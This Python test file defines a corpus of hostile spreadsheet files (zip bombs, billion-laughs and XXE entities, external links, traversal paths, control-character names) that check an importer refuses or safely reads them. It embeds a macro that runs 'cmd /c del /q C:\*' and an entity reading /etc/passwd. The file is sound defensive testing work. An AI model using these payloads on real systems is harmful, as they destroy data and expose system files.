"""The fixed corpus of issue 8: each hostile file, how to build it, and what the user must see.

A case either imports (with the content checked) or is refused with a
`planner.domain.errors.InputError` of the given kind whose message names the file. Cases
marked `child` run through `main.py import` in a child process, whose memory is
measured: the size caps and the zip bomb, and a few of each kind of refusal
(on POSIX systems, where the child's memory can be limited and measured).
"""

from __future__ import annotations

import os
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from planner.sheets import errors
from planner.sheets.cleaning import MAX_CELL_CHARS
from tests.hostile import packages as P
from tests.sheets.builders import simple_rows
from tests.sheets.legacy_writers import ole_bytes, write_xls

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
CJK = "养老服务床位新增建设培训人次社区居家照料中心站县市政府民政财政卫生"


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[Path], Path]  # writes the file into the given folder and returns its path
    refused: type[Exception] | None = None  # the refusal expected; None for a file that imports
    fragments: tuple[str, ...] = ()  # what the refusal message must say besides the file name
    child: bool = False  # through `main.py import` in a child process, memory measured
    seconds: float = 10.0  # the most the case may take
    task_name: str | Callable[[str], bool] = P.TASK_NAME  # for an import: the task's name, or a test of it
    posix_only: bool = False  # a FIFO, or a file name Windows does not allow


def _named(name: str, write: Callable[[Path], Path]) -> Callable[[Path], Path]:
    return lambda folder: write(folder / name)


def _bytes(name: str, data: bytes) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        (folder / name).write_bytes(data)
        return folder / name
    return build


def _package(name: str, sheet: str, **parts) -> Callable[[Path], Path]:
    return _named(name, lambda path: P.write_package(path, sheet, **parts))


def _far_cell_after_style(path: Path) -> Path:
    return P.write_package(path, P.sheet_xml(P.table_rows() + '<row r="3"><c s="0" r="XFD1048576"><v>1</v></c></row>'))


def _far_cell_with_prefix(path: Path) -> Path:
    rows = P.table_rows() + '<x:row r="3"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>'
    return P.write_package(path, P.sheet_xml(rows).replace("<worksheet ", f'<worksheet xmlns:x="{P.MAIN_NS}" ', 1))


def _one_mb_name(path: Path) -> Path:
    rng = random.Random(8)  # random text: a run of one character would be refused as a zip bomb
    name = "".join(rng.choice(CJK) for _ in range(1_000_000))
    return P.write_package(path, P.sheet_xml(P.table_rows([P.HEADER, ["1", name, P.TARGET_TEXT, P.LEAD]])))


def _one_mb_csv_cell(path: Path) -> Path:
    rng = random.Random(8)
    name = "".join(rng.choice(CJK) for _ in range(1_000_000))
    path.write_text(f"{','.join(P.HEADER)}\n1,{name},{P.TARGET_TEXT},{P.LEAD}\n", encoding="utf-8")
    return path


def _formula(ref: str, formula: str, cached: str, text: bool = True, shared: str = "") -> str:
    kind = ' t="str"' if text else ""
    return f'<c r="{ref}"{kind}><f{shared}>{formula}</f><v>{cached}</v></c>'


def _formulas_everywhere(path: Path) -> Path:
    header = "".join(_formula(f"{P.column_letters(c)}1", f'"{h[:1]}"&amp;"{h[1:]}"', h) for c, h in enumerate(P.HEADER))
    task = (_formula("A2", "0+1", "1", text=False)
            + _formula("B2", 'CONCATENATE("建设","社区养老服务站")', P.TASK_NAME)
            + _formula("C2", '"新增"&amp;10&amp;"个"', P.TARGET_TEXT, shared=' t="shared" ref="C2:C3" si="0"')
            + _formula("D2", 'IF(TRUE,"市民政局","")', P.LEAD))
    return P.write_package(path, P.sheet_xml(f'<row r="1">{header}</row><row r="2">{task}</row>'))


def _external_links(folder: Path) -> Path:
    """Cells taken from other workbooks by links: one names a FIFO (reading it would block for ever),
    one a web address, one a share on another machine; only the cached values may be read."""
    fifo = folder / "linked-workbook.xlsx"
    os.mkfifo(fifo)
    targets = [fifo.as_uri(), "http://127.0.0.1:9/单位.xlsx", r"\\fileserver\共享\目标.xlsx"]
    task = ('<c r="A2"><f>[3]Sheet1!A1</f><v>1</v></c>' + P.text_cell("B2", P.TASK_NAME)
            + f'<c r="C2" t="str"><f>[1]Sheet1!A1</f><v>{P.TARGET_TEXT}</v></c>'
            + f'<c r="D2" t="str"><f>[2]Sheet1!$B$7</f><v>{P.LEAD}</v></c>')
    sheet = P.sheet_xml(P.table_rows([P.HEADER]) + f'<row r="2">{task}</row>')
    links = "".join(f'<externalReference r:id="rIdLink{n}"/>' for n in range(1, len(targets) + 1))
    extra, rels = {}, []
    for number, target in enumerate(targets, start=1):
        rels.append((f"rIdLink{number}", "externalLink", f"externalLinks/externalLink{number}.xml", ""))
        extra[f"xl/externalLinks/externalLink{number}.xml"] = (
            f'<externalLink xmlns="{P.MAIN_NS}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>新增99个</v></cell></row>'
            "</sheetData></sheetDataSet></externalBook></externalLink>")
        extra[f"xl/externalLinks/_rels/externalLink{number}.xml.rels"] = P.relationships(
            [("rId1", "externalLinkPath", target, "External")])
    return P.write_package(folder / "外部链接.xlsx", sheet,
                           workbook=P.workbook_xml(extra=f"<externalReferences>{links}</externalReferences>"),
                           workbook_rels=rels, extra=extra)


def _macros(path: Path) -> Path:
    vba = ole_bytes({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000\r\n',
                     "ThisWorkbook": b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n'
                                     b'  Shell "cmd /c del /q C:\\*"\r\nEnd Sub\r\n'})
    return P.write_package(path, P.sheet_xml(P.table_rows()), main_type=P.XLSM_MAIN_TYPE,
                           extra={"xl/vbaProject.bin": vba},
                           workbook_rels=[("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                           "vbaProject.bin", "")])


def _nested_folders(folder: Path) -> Path:
    """"../附件\\x01.xlsx" seen from a subfolder: a path that climbs, a backslash and a control character."""
    (folder / "下级").mkdir()
    P.plain_xlsx(folder / "附件\\\x01.xlsx")
    return folder / "下级" / ".." / "附件\\\x01.xlsx"


def _pdf_with_control_characters(folder: Path) -> Path:
    path = folder / "通知\n附件\t1\x1b.xlsx"
    path.write_bytes(PDF)
    return path


def _control_characters_inside(path: Path) -> Path:
    name = "建设_x0001_社区&#9;养老\x7f服务站&#27;"
    rows = P.table_rows([P.HEADER]) + '<row r="2">' + "".join(
        P.text_cell(f"{P.column_letters(c)}2", v) for c, v in enumerate(["1", "@", P.TARGET_TEXT, P.LEAD])) + "</row>"
    rows = rows.replace("<t>@</t>", f"<t>{name}</t>")
    return P.write_package(path, P.sheet_xml(rows), workbook=P.workbook_xml("表/1\\工作&#9;表:*?[]"))


def _csv_with_terminal_escapes(path: Path) -> Path:
    text = f"{','.join(P.HEADER)}\r\n1,建设\x1b[2J社区\x07养老\x1b]0;标题\x07服务站,{P.TARGET_TEXT},{P.LEAD}\r\n"
    path.write_bytes(text.encode("gbk"))
    return path


def _encrypted_ods(path: Path) -> Path:
    encryption = ('<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
                  '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
                  "</manifest:encryption-data>")
    return P.ods_package(path, P.ods_task_cells(f"<text:p>{P.TASK_NAME}</text:p>"), manifest_extra=encryption)


def _encrypted_member(path: Path) -> Path:
    return P.flag_member_encrypted(P.plain_xlsx(path), "xl/worksheets/sheet1.xml")


def _laughs_in_shared_strings(path: Path) -> Path:
    rows = '<row r="1">' + "".join(f'<c r="{P.column_letters(c)}1" t="s"><v>{c}</v></c>' for c in range(4)) + "</row>"
    shared = P.shared_strings_xml(["&lol9;", *P.HEADER[1:]], doctype=P.BILLION_LAUGHS)
    return P.write_package(path, P.sheet_xml(rows + P.table_rows([P.TASK], first_row=2)), shared=shared)


def _external_entity(path: Path) -> Path:
    doctype = '<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    rows = P.table_rows().replace(P.TASK_NAME, "&secret;")
    return P.write_package(path, P.sheet_xml(rows, doctype=doctype))


def _nested_paragraphs(path: Path) -> Path:
    rng = random.Random(8)
    text = "".join(rng.choice(CJK) for _ in range(1_000_000))
    return P.ods_package(path, P.ods_task_cells("<text:p>" * 900 + text + "</text:p>" * 900))


def _long_name(expected_length: int) -> Callable[[str], bool]:
    return lambda name: len(name) == expected_length


CORPUS: list[Case] = [
    # Sizes: refused from what the file declares, before anything is built in memory.
    Case("zip-bomb", _named("炸弹.xlsx", P.zip_bomb), errors.TooLargeError, ("压缩比",), child=True),
    Case("1048576-rows", _package("百万行.xlsx", P.sheet_xml(
        P.table_rows() + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>', dimension="A1:A1048576")),
         errors.TooLargeError, ("1048576 行",), child=True, seconds=5),
    Case("16384-columns", _package("宽表.xlsx", P.sheet_xml(
        P.table_rows().replace("</row>", '<c r="XFD1"><v>1</v></c></row>', 1), dimension="A1:XFD2")),
         errors.TooLargeError, ("16384 列",), child=True, seconds=5),
    Case("1048576-rows-16384-columns-without-r",
         _named("无行号.xlsx", lambda p: P.rows_without_place(p, columns=16384)),
         errors.TooLargeError, ("1048579 行",), child=True),
    Case("far-cell-r-after-style", _named("属性次序.xlsx", _far_cell_after_style), errors.TooLargeError, (),
         child=True, seconds=5),
    Case("far-cell-namespace-prefix", _named("前缀.xlsx", _far_cell_with_prefix), errors.TooLargeError, (),
         child=True, seconds=5),
    Case("shared-strings-declare-4e9", _package("共享.xlsx", P.sheet_xml(P.table_rows()), shared=P.shared_strings_xml(
        ["x"], unique_count=4_000_000_000)), errors.CorruptFileError, ("4000000000",), child=True, seconds=5),
    Case("xls-dimensions-60000x60000",
         _named("尺寸.xls", lambda p: P.xls_with(p, P.set_xls_dimensions(0, 60000, 0, 60000))),
         errors.TooLargeError, ("单元格",), child=True, seconds=5),
    Case("xls-dimensions-reversed", _named("倒置.xls", lambda p: P.xls_with(p, P.set_xls_dimensions(10, 5, 0, 4))),
         errors.CorruptFileError, ("尺寸记录",), child=True, seconds=5),
    Case("xls-cell-at-column-65536", _named("远格.xls", lambda p: P.xls_with(p, P.move_last_xls_cell(65535, 65535))),
         errors.TooLargeError, (), child=True, seconds=5),
    Case("xls-looping-fat-index", _named("循环.xls", P.ole_with_looping_difat), errors.CorruptFileError, (),
         child=True, seconds=5),
    Case("ods-two-billion-spaces", _named("空格.ods", lambda p: P.ods_package(p, P.ods_task_cells(
        '<text:p>建设<text:s text:c="2000000000"/>站</text:p>'))), child=True,
         task_name=lambda name: name.startswith("建设") and len(name) <= MAX_CELL_CHARS),
    Case("ods-900-nested-paragraphs", _named("嵌套.ods", _nested_paragraphs), child=True,
         task_name=_long_name(MAX_CELL_CHARS)),
    # Content: read as the sheet shows it, nothing run, nothing fetched.
    # A cell is cut to what Excel holds (with a warning), so a million characters cost no more than that.
    Case("cell-of-1mb", _named("长文字.xlsx", _one_mb_name), task_name=_long_name(MAX_CELL_CHARS)),
    Case("csv-cell-of-1mb", _named("长文字.csv", _one_mb_csv_cell), errors.TooLargeError, ("131072",)),
    Case("formulas-everywhere", _named("公式.xlsx", _formulas_everywhere)),
    Case("external-links", _external_links, child=True, posix_only=True),
    Case("macros-in-xlsm", _named("宏.xlsm", _macros)),
    # Not a spreadsheet, empty, locked.
    Case("pdf-named-xls", _bytes("通知.xls", PDF), errors.NotSpreadsheetError, ("PDF",), child=True),
    Case("pdf-named-csv", _bytes("通知.csv", PDF), errors.NotSpreadsheetError, ("PDF",)),
    Case("empty-xlsx", _bytes("空.xlsx", b""), errors.EmptyFileError, ("0 字节",), child=True),
    Case("password-xlsx", _bytes("加密.xlsx", ole_bytes({"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 200,
                                                       "EncryptedPackage": b"\1" * 900})),
         errors.EncryptedFileError, ("密码",), child=True),
    Case("password-xls", _named("加密.xls", lambda p: write_xls(p, [("Sheet1", simple_rows(), [])], encrypted=True)),
         errors.EncryptedFileError, ("密码",)),
    Case("password-zip-member", _named("压缩加密.xlsx", _encrypted_member), errors.EncryptedFileError, ("密码",)),
    Case("password-ods", _named("加密.ods", _encrypted_ods), errors.EncryptedFileError, ("密码",)),
    # Damaged containers: the zip and OLE structures themselves.
    Case("zip-method-unknown", _named("方法.xlsx", lambda p: P.unknown_compression(P.plain_xlsx(p), "xl/workbook.xml")),
         errors.CorruptFileError),
    Case("zip-version-6.4", _named("版本.xlsx", lambda p: P.future_zip_version(P.plain_xlsx(p), "xl/workbook.xml")),
         errors.CorruptFileError),
    Case("ods-mimetype-method-unknown", _named("类型.ods", lambda p: P.unknown_compression(P.ods_package(
        p, P.ods_task_cells(f"<text:p>{P.TASK_NAME}</text:p>")), "mimetype")), errors.CorruptFileError),
    # Entity expansion: refused, never expanded, nothing read from elsewhere.
    Case("billion-laughs-shared-strings", _named("笑.xlsx", _laughs_in_shared_strings), errors.CorruptFileError),
    Case("billion-laughs-workbook", _package("笑2.xlsx", P.sheet_xml(P.table_rows()), workbook=P.workbook_xml(
        "&lol9;", doctype=P.BILLION_LAUGHS)), errors.CorruptFileError, ("Entities",)),
    Case("billion-laughs-sheet", _package("笑3.xlsx", P.sheet_xml(P.table_rows().replace(P.TASK_NAME, "&lol9;"),
                                                                  doctype=P.BILLION_LAUGHS)), errors.CorruptFileError),
    Case("external-entity", _named("实体.xlsx", _external_entity), errors.CorruptFileError),
    # Names: path separators and control characters in the file's, the sheet's and the task's names.
    Case("climbing-path-backslash-control", _nested_folders, posix_only=True),
    Case("pdf-named-with-newline-tab-escape", _pdf_with_control_characters, errors.NotSpreadsheetError, child=True,
         posix_only=True),
    Case("control-characters-in-sheet-and-task", _named("控制符.xlsx", _control_characters_inside),
         task_name="建设社区\t养老服务站"),
    Case("terminal-escapes-in-gbk-csv", _named("转义.csv", _csv_with_terminal_escapes),
         task_name="建设[2J社区养老]0;标题服务站"),
]

def by_id(case_id: str) -> Case:
    return next(case for case in CORPUS if case.id == case_id)
